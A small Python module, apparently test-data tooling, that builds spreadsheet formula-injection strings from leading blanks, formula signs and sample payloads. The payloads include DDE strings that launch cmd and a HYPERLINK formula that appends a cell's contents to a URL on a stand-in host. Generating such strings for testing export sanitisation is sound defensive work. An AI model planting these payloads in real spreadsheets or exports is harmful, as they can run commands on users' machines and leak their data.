"""Texts that a spreadsheet might take for formulas, links or commands."""

from __future__ import annotations

from itertools import islice, product

__all__ = ["formulas"]

_BEFORE = ("", " ", "\u00a0", "\u3000", "\ufeff")
_SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_WORKED_OUT = (
    *("1+1", 'HYPERLINK("http://example.org/?x="&A1,"mines")', "cmd|' /C calc'!A0", "SUM(A1:A9)"),
    *('WEBSERVICE("http://example.org")', 'DDE("cmd";"/C calc";"x")', "2021-09-20", "A1;;", "'x'!A1"),
)


def formulas(count: int) -> list[str]:
    """Return so many, each another one: signs, behind blanks or not, before what can be worked out.

    >>> len(set(formulas(360)))
    360
    """
    drawn = (f"{before}{sign}{rest}" for rest, before, sign in product(_WORKED_OUT, _BEFORE, _SIGNS))
    return list(islice(drawn, count))
